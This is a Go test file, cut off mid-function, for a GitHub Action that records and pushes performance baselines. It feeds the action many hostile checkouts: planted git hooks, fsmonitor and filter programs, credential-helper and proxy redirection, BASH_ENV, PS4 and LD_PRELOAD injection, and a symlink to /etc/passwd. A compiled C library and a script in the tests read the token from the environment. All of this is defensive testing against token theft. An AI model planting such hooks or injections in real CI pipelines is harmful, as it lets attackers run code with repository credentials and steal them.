//go:build linux

package command_test

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"io"
	"log"
	"maps"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"go.yaml.in/yaml/v3"
)

// workflow is a job of GitHub on this machine: it runs the steps of action.yml that measure and deliver, with a server
// that takes pushes with the token alone. A script stands for nsgate and the measured program.
type workflow struct {
	t                        *testing.T
	dir, repo, token, pushed string // pushed is the commit of the server's branch at the start
	server                   *httptest.Server
	set                      map[string]string // variables of the job
	inputs                   map[string]string
	mutex                    sync.Mutex
	requests                 string // to another host, such as a proxy
}

func newWorkflow(t *testing.T) *workflow {
	w := &workflow{t: t, dir: t.TempDir(), token: fmt.Sprintf("xTOKENx%x", sha256.Sum256([]byte(t.Name())))}
	w.repo = filepath.Join(w.dir, "checkout")
	backend := &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Stderr: os.Stderr,
		Env: []string{"GIT_PROJECT_ROOT=" + filepath.Join(w.dir, "server"), "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=ci",
			"GIT_CONFIG_GLOBAL=" + filepath.Join(w.dir, "server.config")}}
	if _, err := os.Stat(backend.Path); err != nil {
		t.Skip("git serves no HTTP here")
	}
	want := "Basic " + base64.StdEncoding.EncodeToString([]byte("x-access-token:"+w.token))
	w.server = httptest.NewServer(http.HandlerFunc(func(out http.ResponseWriter, r *http.Request) {
		w.mutex.Lock()
		defer w.mutex.Unlock()
		if r.URL.Host != "" || !strings.HasPrefix(r.URL.Path, "/team/app/") {
			w.requests += fmt.Sprintln(r.Method, r.URL, r.Header)
		}
		if r.Header.Get("Authorization") != want {
			out.Header().Set("WWW-Authenticate", "Basic")
			out.WriteHeader(http.StatusUnauthorized)
			return
		}
		backend.ServeHTTP(out, r)
	}))
	t.Cleanup(w.server.Close)
	w.shell(`git config --file server.config safe.directory '*'
		git init -q --bare -b main server/team/app && git -C server/team/app config http.receivepack true
		git init -q -b main checkout && cd checkout
		mkdir -p .nsgate/app/gpu && echo old >.nsgate/app/gpu/a.csv && echo code >code && echo kept >.nsgate/README
		git add -A && git commit -q -m base && git push -q ../server/team/app main`)
	w.pushed = w.shell("git -C checkout rev-parse HEAD")
	w.script("bin/nsgate", `echo "nsgate $1"
		[ "$1" = record ] || exit 0
		mkdir -p .nsgate/app/gpu; echo new >.nsgate/app/gpu/b.csv
		grep -alf "$WORK/look" /proc/[0-9]*/environ /proc/[0-9]*/cmdline >>"$WORK/leaked" 2>/dev/null
		[ -z "$PROGRAM" ] || WORK=$WORK sh -ec "$PROGRAM"`)
	w.script("evil", `echo "$0 $*" >>'`+w.dir+`/ran'; /usr/bin/env | /usr/bin/grep xTOKENx >>'`+w.dir+`/leaked'
			/usr/bin/cat >/dev/null 2>&1`)
	w.inputs = map[string]string{"record": "main", "push": "true", "patch": "nsgate.patch"}
	w.set = map[string]string{"GITHUB_EVENT_NAME": "push", "GITHUB_REF": "refs/heads/main", "GITHUB_SHA": w.pushed,
		"GITHUB_SERVER_URL": w.server.URL, "GITHUB_REPOSITORY": "team/app", "GITHUB_WORKSPACE": w.repo,
		"GITHUB_ACTION_PATH": mustAbs(t, "../.."), "RUNNER_TEMP": filepath.Join(w.dir, "temp"), "WORK": w.dir,
		"HOME": w.dir, "PATH": filepath.Join(w.dir, "bin") + ":" + os.Getenv("PATH")}
	w.shell("mkdir temp && echo " + w.token + " >look")
	return w
}

func mustAbs(t *testing.T, file string) string {
	at, err := filepath.Abs(file)
	if err != nil {
		t.Fatal(err)
	}
	return at
}

func (w *workflow) script(name, text string) {
	w.t.Helper()
	file := filepath.Join(w.dir, name)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		w.t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte("#!/usr/bin/dash\n"+text+"\n"), 0o755); err != nil {
		w.t.Fatal(err)
	}
}

// shell runs a script as somebody who is no part of the job, and returns its output.
func (w *workflow) shell(script string) string {
	w.t.Helper()
	cmd := exec.Command("sh", "-ec", script)
	cmd.Dir = w.dir
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=/nonexistent", "GIT_CONFIG_NOSYSTEM=1", "GIT_AUTHOR_NAME=a",
		"GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b", "GIT_CONFIG_COUNT=1",
		"GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"}
	out, err := cmd.CombinedOutput()
	if err != nil {
		w.t.Fatalf("%s: %v: %s", script, err, out)
	}
	return strings.TrimSpace(string(out))
}

var inputOf = regexp.MustCompile(`^\$\{\{ inputs\.([a-z-]+) \}\}$`)

// run runs the job and returns its log, and whether it succeeded. What a step writes to $GITHUB_ENV and $GITHUB_PATH
// holds for the next ones. program is a script that the measured program runs in the checkout.
func (w *workflow) run(program string) (log string, ok bool) {
	w.t.Helper()
	var action struct {
		Runs struct {
			Steps []struct {
				Name, ID, If, Shell, Run string
				Env                      map[string]string
			}
		}
	}
	text, err := os.ReadFile("../../action.yml")
	if err == nil {
		err = yaml.Unmarshal(text, &action)
	}
	if err != nil {
		w.t.Fatal(err)
	}
	job, outputs, loader := map[string]string{"PROGRAM": program}, "", ""
	for name, value := range w.set {
		job[name] = value
	}
	for i, step := range action.Runs.Steps {
		if step.ID != "install" && step.ID != "gate" {
			continue
		}
		env := map[string]string{}
		for name, value := range job {
			env[name] = value
		}
		for _, name := range []string{"ENV", "PATH", "OUTPUT", "STEP_SUMMARY"} {
			env["GITHUB_"+name] = filepath.Join(w.dir, "temp", fmt.Sprint(name, i))
			w.shell(": >'" + env["GITHUB_"+name] + "'")
		}
		for name, value := range step.Env {
			m := inputOf.FindStringSubmatch(value)
			switch {
			case value == "${{ inputs.token }}":
				env[name] = w.token
			case value == "${{ github.event.repository.default_branch }}":
				env[name] = "main"
			case value == "${{ steps.install.outputs.loader }}":
				env[name] = loader
			case name == "INSTALL_MODE":
				env[name] = "none"
			case m != nil:
				env[name] = w.inputs[m[1]]
			default:
				env[name] = ""
			}
		}
		shell := filepath.Join(w.dir, "temp", "step.sh")
		if err := os.WriteFile(shell, []byte(step.Run), 0o600); err != nil {
			w.t.Fatal(err)
		}
		// The runner looks the shell up in the path of the step.
		if step.Shell == "bash" {
			step.Shell = "bash --noprofile --norc -eo pipefail {0}"
		}
		words := strings.Fields(strings.ReplaceAll(step.Shell, "{0}", shell))
		cmd := exec.Command(w.shell(`PATH='`+env["PATH"]+`' command -v `+words[0]), words[1:]...)
		cmd.Dir = w.repo
		for name, value := range env {
			cmd.Env = append(cmd.Env, name+"="+value)
		}
		out, err := cmd.CombinedOutput()
		log += string(out)
		if err != nil {
			return log, false
		}
		read := func(name string) string {
			text, _ := os.ReadFile(env["GITHUB_"+name])
			return string(text)
		}
		outputs += read("OUTPUT")
		if _, rest, ok := strings.Cut(outputs, "loader<<end of nsgate-loader\n"); ok && step.ID == "install" {
			loader, _, _ = strings.Cut(rest, "end of nsgate-loader\n")
		}
		for line := range strings.Lines(read("PATH")) {
			job["PATH"] = strings.TrimSpace(line) + ":" + job["PATH"]
		}
		for line := range strings.Lines(read("ENV")) {
			name, value, _ := strings.Cut(strings.TrimSpace(line), "=")
			job[name] = value
			if strings.HasPrefix(name, "GITHUB_") {
				w.t.Fatal("no step can set ", name)
			}
		}
	}
	return log, true
}

// kept fails the test where a program of the change ran with the token or saw it, or the branch of the server is not as
// it was, apart from a commit on it that adds files of the baseline.
func (w *workflow) kept(log string, files ...string) {
	w.t.Helper()
	for _, name := range []string{"ran", "leaked"} {
		if text, _ := os.ReadFile(filepath.Join(w.dir, name)); len(text) > 0 {
			w.t.Errorf("%s: %s\n%s", name, text, log)
		}
	}
	if w.requests != "" {
		w.t.Errorf("another server got %s", w.requests)
	}
	if left := w.shell("ls -d temp/nsgate-* 2>/dev/null | grep -vx temp/nsgate-bin || :"); left != "" {
		w.t.Errorf("%s is left", left)
	}
	at := "git -C server/team/app "
	if len(files) == 0 {
		if now := w.shell(at + "rev-parse main"); now != w.pushed {
			w.t.Errorf("the branch was moved: %s\n%s", w.shell(at+"log --stat -3 main"), log)
		}
		return
	}
	if parent := w.shell(at + "rev-parse main^@"); parent != w.pushed {
		w.t.Errorf("the parents are %q, not the commit of the job\n%s", parent, log)
		return
	}
	if changed := w.shell(at + "diff --name-only main^ main"); changed != strings.Join(files, "\n") {
		w.t.Errorf("the commit changes %q\n%s", changed, log)
	}
	if modes := w.shell(at + "ls-tree -r main | grep -v ^100644 || :"); modes != "" {
		w.t.Errorf("the commit holds %s", modes)
	}
	if text := w.shell(at + "show 'main:" + files[len(files)-1] + "'"); text != "new" {
		w.t.Errorf("the file is %q", text)
	}
}

const newFile = ".nsgate/app/gpu/b.csv"

// TestRecordedEvents holds that only the commit of a push, a schedule or a job by hand is recorded: the other events
// run with the rights of the default branch, whoever wrote what is checked out.
func TestRecordedEvents(t *testing.T) {
	t.Parallel()
	stranger := `cd checkout && git checkout -q -b stranger && echo evil >code && git commit -q -a -m stranger`
	for n, event := range []string{"push", "schedule", "workflow_dispatch", "workflow_run", "issue_comment",
		"pull_request_target", "pull_request", "pull_request_review", "issues", "release", "repository_dispatch",
		"workflow_call", "merge_group", "check_run", "status", "label", "delete", "deployment_status",
		"registry_package", "watch", ""} {
		for _, record := range []string{"main", "true"} {
			if !full() && n > 5 && n%2 == len(record)%2 {
				continue
			}
			for i, checkout := range []string{stranger, "", "cd checkout && git checkout -q --detach && " +
				"git commit -q --allow-empty -m more"} {
				if i > 0 && n > 5 && !full() {
					continue
				}
				name := regexp.MustCompile(`\W+`).ReplaceAllString(checkout, "_")
				t.Run(event+" "+record+" "+name, func(t *testing.T) {
					t.Parallel()
					w := newWorkflow(t)
					w.set["GITHUB_EVENT_NAME"], w.inputs["record"] = event, record
					w.shell(checkout)
					log, ok := w.run("")
					own := checkout == "" && (event == "push" || event == "schedule" || event == "workflow_dispatch")
					switch {
					case own:
						w.kept(log, newFile)
					default:
						w.kept(log)
					}
					if ok != (own || record == "main") {
						t.Errorf("success is %v: %s", ok, log)
					}
					says := "nsgate check"
					if own {
						says = "nsgate record"
					}
					if ok && !strings.Contains(log, says) {
						t.Errorf("no %q in %s", says, log)
					}
					why := regexp.MustCompile(`::(notice|error) .*(is none of push|is checked out, not)`)
					if !own && !why.MatchString(log) {
						t.Errorf("it does not say why: %s", log)
					}
				})
			}
		}
	}
}

// TestRecordedRefs: a baseline is pushed to a branch alone, and a job of another branch judges.
func TestRecordedRefs(t *testing.T) {
	t.Parallel()
	for ref, record := range map[string]string{"refs/tags/main": "true", "refs/heads/topic": "main",
		"refs/pull/7/merge": "true", "refs/heads/main/x": "main", "": "true"} {
		w := newWorkflow(t)
		w.set["GITHUB_REF"], w.inputs["record"] = ref, record
		log, ok := w.run("")
		w.kept(log)
		if ok != (record == "main") {
			t.Errorf("%s: success is %v: %s", ref, ok, log)
		}
	}
}

// hostileCheckouts are scripts of a measured program: each leaves a program, $WORK/evil, where git or a shell would run
// it, or files that would be pushed.
var hostileCheckouts = map[string]string{
	"nothing": ":",
	"hooks": `for hook in applypatch-msg pre-applypatch post-applypatch \
		pre-commit pre-merge-commit prepare-commit-msg commit-msg \
		post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive \
		post-update \
		reference-transaction push-to-checkout pre-auto-gc \
		post-rewrite sendemail-validate fsmonitor-watchman post-index-change \
		p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit; do cp $WORK/evil .git/hooks/$hook; done`,
	"hooksPath": `mkdir $WORK/hooks; for hook in pre-push reference-transaction post-index-change
			do cp $WORK/evil $WORK/hooks/$hook; done
		git config core.hooksPath $WORK/hooks; git config --global core.hooksPath $WORK/hooks`,
	"template": `mkdir -p $WORK/template/hooks; for hook in pre-push reference-transaction post-index-change
			do cp $WORK/evil $WORK/template/hooks/$hook; done
		git config --global init.templateDir $WORK/template`,
	"fsmonitor": `git config core.fsmonitor $WORK/evil; git config --global core.fsmonitor $WORK/evil`,
	"filters": `for f in clean smudge process; do git config filter.evil.$f $WORK/evil
			git config --global filter.evil.$f $WORK/evil; done
		git config filter.evil.required true; echo '* filter=evil diff=evil merge=evil' >.gitattributes
			cp .gitattributes .nsgate/
		cp .gitattributes .git/info/attributes
		mkdir -p $WORK/.config/git; cp .gitattributes $WORK/.config/git/attributes
		git config diff.evil.textconv $WORK/evil; git config diff.evil.command $WORK/evil
			git config diff.external $WORK/evil`,
	"programs": `for key in core.pager core.sshCommand core.editor core.askPass \
		core.gitProxy gpg.program gpg.ssh.program core.alternateRefsCommand \
		credential.helper credential.http://127.0.0.1.helper remote.origin.receivepack \
		remote.origin.uploadpack uploadpack.packObjectsHook \
		sequence.editor alias.push alias.hash-object alias.commit-tree trailer.x.command; do
		git config $key "!$WORK/evil"; git config --global $key "$WORK/evil"; done
		git config commit.gpgSign true
		git config --global push.gpgSign if-asked; git config --global commit.gpgSign true`,
	"insteadOf": `for where in '' --global; do git config $where url.http://evil.invalid/.insteadOf $GITHUB_SERVER_URL/
		git config $where url.http://evil.invalid/.pushInsteadOf $GITHUB_SERVER_URL/; done`,
	"proxy": `for where in '' --global; do git config $where http.proxy $GITHUB_SERVER_URL
			git config $where remote.origin.proxy $GITHUB_SERVER_URL
		git config $where http.curloptResolve "*:80:127.0.0.1"; git config $where http.sslVerify false; done
		for name in http_proxy HTTP_PROXY ALL_PROXY all_proxy; do echo $name=$GITHUB_SERVER_URL >>$GITHUB_ENV; done`,
	"include": `printf '[core]\n\tfsmonitor = %s\n\thooksPath = %s\n[include]\n\tpath = %s\n' \
			$WORK/evil $WORK $WORK/other >$WORK/included
		git config include.path $WORK/included; git config --global include.path $WORK/included
		git config extensions.worktreeConfig true; cp $WORK/included .git/config.worktree`,
	"variables": `cp $WORK/evil $WORK/git-remote-http
			for v in GIT_SSH_COMMAND GIT_SSH GIT_ASKPASS SSH_ASKPASS GIT_EXTERNAL_DIFF GIT_PAGER GIT_EDITOR \
		GIT_PROXY_COMMAND GIT_SEQUENCE_EDITOR PAGER EDITOR BASH_ENV ENV; do echo $v=$WORK/evil >>$GITHUB_ENV; done
		printf '%s\n' GIT_EXEC_PATH=$WORK GIT_TRACE=$WORK/leaked GIT_TRACE_CURL=$WORK/leaked GIT_TRACE_REDACT=0 \
			GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=$WORK GIT_DIR=$WORK/none \
			GIT_INDEX_FILE=$WORK/index "GIT_CONFIG_PARAMETERS='core.fsmonitor=$WORK/evil'" GIT_TEMPLATE_DIR=$WORK \
			SHELLOPTS=xtrace 'PS4=$('"$WORK/evil)" GIT_ALTERNATE_OBJECT_DIRECTORIES=$WORK GIT_WORK_TREE=$WORK \
			GIT_CURL_VERBOSE=1 >>$GITHUB_ENV`,
	"path": `mkdir $WORK/first; for name in git sh bash base64 tr env sed find stat mktemp rm cat printf date
			do cp $WORK/evil $WORK/first/$name; done
		echo $WORK/first >>$GITHUB_PATH; for file in $WORK/bin/*; do cp $WORK/evil $file; done`,
	"own script": `for file in "$GITHUB_ACTION_PATH"/.github/recorded; do [ -w $file ] && [ -d $WORK/action ] &&
			{ cat $WORK/evil >$file; }; done`,
	"home": `echo "machine 127.0.0.1 login a password b" >$WORK/.netrc; cp $WORK/evil $WORK/.bashrc
			cp $WORK/evil $WORK/.profile; cp $WORK/evil $WORK/.bash_profile`,
	"commits": `echo evil >code; git -c user.name=e -c user.email=e@e commit -q -a -m evil`,
	"staged":  `echo evil >code; echo more >more; git add -A`,
	"branches": `git update-ref refs/heads/main HEAD^0; git checkout -q --detach
			git -c user.name=e -c user.email=e@e commit -q --allow-empty -m e; git update-ref refs/heads/main HEAD`,
	"replace": `git config user.name e; git config user.email e@e; git checkout -q --detach; echo evil >code
			git commit -q -a -m evil
		git replace -f $GITHUB_SHA HEAD; git checkout -q --detach $GITHUB_SHA
			echo "$GITHUB_SHA $(git rev-parse HEAD)" >.git/info/grafts`,
	"alternates": `mkdir -p $WORK/other/pack; echo $WORK/other >.git/objects/info/alternates`,
	"other files": `echo evil >.nsgate/run.sh; chmod 755 .nsgate/run.sh; mkdir -p .nsgate/.github/workflows
			echo evil >.nsgate/.github/workflows/x.yml
		echo '* filter=evil' >.nsgate/.gitattributes; echo evil >.nsgate/README; echo evil >evil.csv; rm -f code`,
	"mode": `chmod 755 .nsgate/app/gpu/b.csv`,
	"skip": `git update-index --assume-unchanged code .nsgate/app/gpu/a.csv; echo .nsgate >.gitignore
			echo '*' >.git/info/exclude`,
	"worktree": `git config core.worktree $WORK; git config core.bare true`,
	"lock":     `: >.git/index.lock; rm -f .git/index; : >.git/config.lock`,
	"no git":   `mv .git/config .git/config.old; rm -rf .git/refs .git/hooks; mkdir .git/refs`,
	"case": `git config core.ignoreCase true; git config core.precomposeUnicode true
			git config core.sparseCheckout true; git config core.autocrlf true`,
	"inner hooks": `git init -q .nsgate/inner; for hook in pre-commit reference-transaction
			do cp $WORK/evil .nsgate/inner/.git/hooks/$hook; done`,
}

// TestRecordedHostile runs programs that leave hooks, filters, configuration, variables and programs where the delivery
// meets them: none runs, none sees the token, and one commit with the new file of the baseline arrives.
func TestRecordedHostile(t *testing.T) {
	t.Parallel()
	for i, name := range slices.Sorted(maps.Keys(hostileCheckouts)) {
		if !full() && i%2 > 0 {
			continue
		}
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorkflow(t)
			if name == "own script" {
				scripts := mustAbs(t, "../../.github")
				w.shell(`mkdir -p action/.github && cd '` + scripts + `' && cp recorded install ` + w.dir + `/action/.github/`)
				w.set["GITHUB_ACTION_PATH"] = filepath.Join(w.dir, "action")
			}
			log, ok := w.run(hostileCheckouts[name])
			w.kept(log, newFile)
			if !ok {
				t.Error(log)
			}
			// The patch holds the same.
			w.shell(`git clone -q -s server/team/app again 2>&1 && cd again && git reset -q --hard ` + w.pushed +
				` && git apply --index ../checkout/nsgate.patch && git diff --cached --quiet origin/main`)
		})
	}
}

// TestRecordedFiles: links, pipes, submodules and objects of another name are delivered by nobody.
func TestRecordedFiles(t *testing.T) {
	t.Parallel()
	for name, program := range map[string]string{
		"link":          `ln -s /etc/passwd .nsgate/app/gpu/c.csv`,
		"link instead":  `rm .nsgate/app/gpu/a.csv; ln -s ../../../code .nsgate/app/gpu/a.csv`,
		"dead link":     `ln -s nowhere .nsgate/c.csv`,
		"linked root":   `mv .nsgate $WORK/away; ln -s $WORK/away .nsgate`,
		"linked other":  `mkdir -p sub $WORK/away2; cp -r .nsgate $WORK/away2; ln -s $WORK/away2/.nsgate sub/.nsgate`,
		"linked to all": `mv .nsgate old; ln -s . .nsgate; echo evil >evil.csv`,
		"linked beside": `mkdir data sub; echo evil >data/x.csv; ln -s ../data sub/.nsgate`,
		"pipe":          `mkfifo .nsgate/c.csv`,
		"directory":     `mkdir .nsgate/c.csv`,
		"large":         `truncate -s 600M .nsgate/c.csv`,
		"many":          `mkdir .nsgate/many; cd .nsgate/many; seq 10001 | sed 's/$/.csv/' | xargs touch`,
		"in place of":   `rm code; mkdir -p code/.nsgate; echo evil >code/.nsgate/x.csv`,
		"other objects": `id=$(git rev-parse HEAD^{tree}); file=.git/objects/$(echo $id | sed 's,^..,&/,')
			echo evil >evil; git add evil; git rm -q --cached code; other=$(git write-tree); chmod u+w $file
			cat .git/objects/$(echo $other | sed 's,^..,&/,') >$file`,
		"no objects": `rm -rf .git/objects; mkdir .git/objects`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorkflow(t)
			log, ok := w.run(program)
			w.kept(log)
			if ok || !strings.Contains(log, "::error title=nsgate::the baseline was not delivered: ") {
				t.Errorf("success is %v: %s", ok, log)
			}
		})
	}
}

// TestRecordedChanges delivers files that are gone or new at another place, and no commit where no file changed.
func TestRecordedChanges(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, program, baseline, in string
		files                       []string
	}{
		{"below another repository", `git init -q dep; mkdir dep/.nsgate; echo other >dep/.nsgate/x.csv`, "", "",
			[]string{newFile}},
		{"gone", `rm .nsgate/app/gpu/a.csv`, "", "", []string{".nsgate/app/gpu/a.csv", newFile}},
		{"beside another policy", `mkdir -p sub/.nsgate/w
			echo new >sub/.nsgate/w/x.step.json`, "", "", []string{newFile, "sub/.nsgate/w/x.step.json"}},
		{"a directory of its own", `mkdir -p 'a [b]*'; echo new >'a [b]*/x.csv'; mkdir -p 'a b'
			echo new >'a b/x.csv'`, "a [b]*", "", []string{"a [b]*/x.csv"}},
		{"below a directory", ":", "", "below", []string{"below/" + newFile}},
		{"unchanged", `rm .nsgate/app/gpu/b.csv`, "", "", nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			w := newWorkflow(t)
			w.inputs["baseline"], w.inputs["working-directory"] = c.baseline, c.in
			w.shell("mkdir -p checkout/below")
			log, ok := w.run(c.program)
			w.kept(log, c.files...)
			if !ok {
				t.Error(log)
			}
		})
	}
}

// TestRecordedLinks: a link of the commit leads to its baseline, one that the measured program leads elsewhere does
// not, and neither does a directory named by the workflow that has become one.
func TestRecordedLinks(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ program, baseline, file string }{
		{":", "", "perf/app/gpu/b.csv"},
		{"rm .nsgate; ln -s . .nsgate; echo evil >evil.csv", "", ""},
		{"mkdir data; mv perf old; ln -s data perf; echo evil >data/x.csv", "perf/", ""},
		{"mkdir -p data/app; mv perf old; ln -s data perf; echo evil >data/app/x.csv", "perf/app", ""},
	} {
		w := newWorkflow(t)
		w.shell(`cd checkout; git mv .nsgate perf; ln -s perf .nsgate; git add -A; git commit -q -m linked
			git push -q ../server/team/app main`)
		w.pushed = w.shell("git -C checkout rev-parse HEAD")
		w.set["GITHUB_SHA"], w.inputs["baseline"] = w.pushed, c.baseline
		log, ok := w.run(c.program)
		if c.file == "" {
			w.kept(log)
		} else if changed := w.shell("git -C server/team/app diff --name-only main^ main"); changed != c.file {
			t.Errorf("the commit changes %q", changed)
		}
		if ok != (c.file != "") {
			t.Errorf("%q: success is %v: %s", c.program, ok, log)
		}
	}
}

// TestRecordedAfterSteps: what earlier steps left neither runs with the token nor costs a baseline, and the baseline
// that the input args names is the one that is delivered.
func TestRecordedAfterSteps(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ name, before, variable, args, program, file string }{
		{"sparse", `cd checkout; git update-index --skip-worktree .nsgate/app/gpu/a.csv; rm .nsgate/app/gpu/a.csv`, "",
			"", "", newFile},
		{"patch through a link", `echo kept >kept; ln -s ../kept checkout/nsgate.patch`, "", "", "", newFile},
		{"start of a shell", ":", "BASH_ENV=", "", "", newFile},
		{"function", ":", "BASH_FUNC_unset%%=() { ", "", "", newFile},
		{"args", ":", "", "--baseline=perf", "mkdir perf; mv .nsgate/app/gpu/b.csv perf", "perf/b.csv"},
		{"two args", ":", "", "--baseline\nperf", "mkdir perf; mv .nsgate/app/gpu/b.csv perf", "perf/b.csv"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			w := newWorkflow(t)
			w.shell("echo kept >kept; " + c.before)
			w.inputs["record"], w.inputs["args"] = "true", c.args
			if name, value, ok := strings.Cut(c.variable, "="); ok {
				w.set[name] = value + filepath.Join(w.dir, "evil")
				if value != "" {
					w.set[name] += "; }"
				}
			}
			log, _ := w.run(c.program)
			w.kept(log, c.file)
			if text := w.shell("cat kept"); text != "kept" {
				t.Errorf("a file outside of the checkout was written: %s", text)
			}
		})
	}
}

// TestTokenAfterSteps: a shell in a directory that an earlier step added to the path, and libraries that it named, do
// not meet the token, whatever the step does with it.
func TestTokenAfterSteps(t *testing.T) {
	t.Parallel()
	library := filepath.Join(t.TempDir(), "library.so")
	build := exec.Command("cc", "-shared", "-fPIC", "-x", "c", "-o", library, "-")
	build.Stdin = strings.NewReader(`#include <stdio.h>
		#include <stdlib.h>
		#include <string.h>
		extern char **environ;
		unsigned la_version(unsigned v) { return v; }
		__attribute__((constructor)) static void look(void) {
			FILE *f = fopen(getenv("LEAKED"), "a");
			for (char **e = environ; *e && f; e++) if (strstr(*e, "xTOKENx")) fprintf(f, "%s\n", *e);
			if (f) fclose(f);
		}`)
	if out, err := build.CombinedOutput(); err != nil {
		t.Skipf("no C compiler: %s", out)
	}
	for _, variable := range []string{"PATH", "LD_PRELOAD", "LD_AUDIT"} {
		for record, comment := range map[string]string{"true": "", "main": "", "": "true"} {
			t.Run(variable+record, func(t *testing.T) {
				t.Parallel()
				w := newWorkflow(t)
				w.script("first/bash", `/usr/bin/env | /usr/bin/grep xTOKENx >>"$LEAKED"; exec "/usr/bin/${0##*/}" "$@"`)
				w.shell("for name in sh env git base64 dash rm; do cp first/bash first/$name; done")
				w.inputs["record"], w.inputs["comment"] = record, comment
				w.set["LEAKED"] = filepath.Join(w.dir, "leaked")
				if variable == "PATH" {
					w.set["PATH"] = filepath.Join(w.dir, "first") + ":" + w.set["PATH"]
				} else {
					w.set[variable] = library
				}
				log, ok := w.run("")
				if !ok {
					t.Error(log)
				}
				if record == "" {
					w.kept(log)
				} else {
					w.kept(log, newFile)
				}
			})
		}
	}
}

// TestGateMeasures: no variable that an earlier step left has a gate pass that measures nothing.
func TestGateMeasures(t *testing.T) {
	t.Parallel()
	w := newWorkflow(t)
	w.script("bin/nsgate", `/usr/bin/env | /usr/bin/grep '^NSGATE_[A-Z_]*=.' || echo none`)
	w.inputs["record"] = ""
	w.set["NSGATE_DRY_RUN"], w.set["NSGATE_NO_GPU"], w.set["NSGATE_CHILD"] = "true", "skip", "1"
	w.inputs["patch"] = ""
	if log, _ := w.run(""); !strings.HasSuffix(log, "\nnone\n") {
		t.Errorf("nsgate gets %s", log)
	}
}

// TestCertificates: certificates that an earlier step names reach the programs of nsgate, and not its own requests.
func TestCertificates(t *testing.T) {
	t.Parallel()
	w := newWorkflow(t)
	w.script("bin/nsgate", `if [ "$1" = check ]; then /usr/bin/env | /usr/bin/grep -E '^NSGATE_LOADER|SSL_CERT|^/'; fi`)
	w.inputs["record"], w.inputs["patch"] = "", ""
	w.set["SSL_CERT_FILE"], w.set["SSL_CERT_DIR"] = "/evil.pem", "/evil"
	said, _ := w.run("")
	for _, want := range []string{"NSGATE_LOADER=SSL_CERT_FILE=/evil.pem\nSSL_CERT_DIR=/evil\n", "\nSSL_CERT_FILE=\n",
		"\nSSL_CERT_DIR=\n"} {
		if !strings.Contains(said, want) {
			t.Errorf("nsgate gets %s", said)
		}
	}
	w.inputs["certificates"] = "/own.pem"
	if said, _ := w.run(""); !strings.Contains(said, "\nSSL_CERT_FILE=/own.pem\n") {
		t.Errorf("with certificates of the job's input, nsgate gets %s", said)
	}
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {
		t.Error("a server of the change gets a request")
	}))
	server.Config.ErrorLog = log.New(io.Discard, "", 0)
	server.StartTLS()
	defer server.Close()
	own := newWorld(t)
	certificate := pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}
	if err := os.WriteFile(filepath.Join(own.work, "evil.pem"), pem.EncodeToMemory(&certificate), 0o600); err != nil {
		t.Fatal(err)
	}
	w.shell(`echo '{"pull_request": {"number": 7}}' >` + own.work + "/event.json")
	for name, value := range map[string]string{"NSGATE_LOADER": "SSL_CERT_FILE=" + own.work + "/evil.pem",
		"GITHUB_ACTIONS": "true", "NSGATE_TOKEN_FD": "3", "GITHUB_API_URL": server.URL, "GITHUB_REPOSITORY": "a/b",
		"GITHUB_EVENT_PATH": own.work + "/event.json"} {
		own.set(name, value)
	}
	said = own.run(0, "sh", "-c", "nsgate compare $KERNELS/base $KERNELS/base --comment true 3<event.json").said()
	if !strings.Contains(said, "certificate signed by unknown authority") {
		t.Errorf("nsgate says %s", said)
	}
}

// TestBaseObjects: the base is built from its own objects, whatever stands under their names in the checkout.
func TestBaseObjects(t *testing.T) {
	t.Parallel()
	w := newWorkflow(t)
	w.shell("cd checkout; echo head >code; git commit -q -a -m head")
	build := func(from string) (string, error) {
		cmd := exec.Command("bash", mustAbs(t, "../../.github/base"), "build")
		cmd.Dir = filepath.Join(w.dir, from)
		cmd.Env = append(os.Environ(), "WORKING_DIRECTORY=", "BASE_REF=HEAD^1", "BUILD=cp code app",
			"BASE_DIR="+w.dir+"/base", "GITHUB_OUTPUT="+w.dir+"/output")
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	w.shell(`git clone -q --depth 2 "file://$PWD/checkout" shallow 2>&1`)
	for _, from := range []string{"checkout", "shallow"} {
		if out, err := build(from); err != nil || w.shell("cat base/app") != "code" {
			t.Errorf("%s: %v: %s", from, err, out)
		}
	}
	w.shell(`cd checkout; at() { git rev-parse "$1" | sed 's,^..,.git/objects/&/,'; }
		base=$(at HEAD^1^{tree}); head=$(at HEAD^{tree}); chmod u+w $base; cp $head $base`)
	out, err := build("checkout")
	if err == nil || !strings.Contains(out, "objects of the checkout are not those of ") {
		t.Errorf("the base holds %q: %s", w.shell("cat base/app"), out)
	}
}

// TestRecordedModes: a patch alone needs no token and no event, the exit code of nsgate stays, a signal reaches it, and
// what lies there already is delivered alone.
func TestRecordedModes(t *testing.T) {
	t.Parallel()
	w := newWorkflow(t)
	w.inputs["record"], w.inputs["push"], w.set["GITHUB_EVENT_NAME"] = "true", "", "pull_request"
	w.token = ""
	log, ok := w.run("")
	w.kept(log)
	if !ok {
		t.Error(log)
	}
	w.shell("cd checkout && git reset -q --hard && git apply --index nsgate.patch && test $(cat " + newFile + ") = new")

	w = newWorkflow(t)
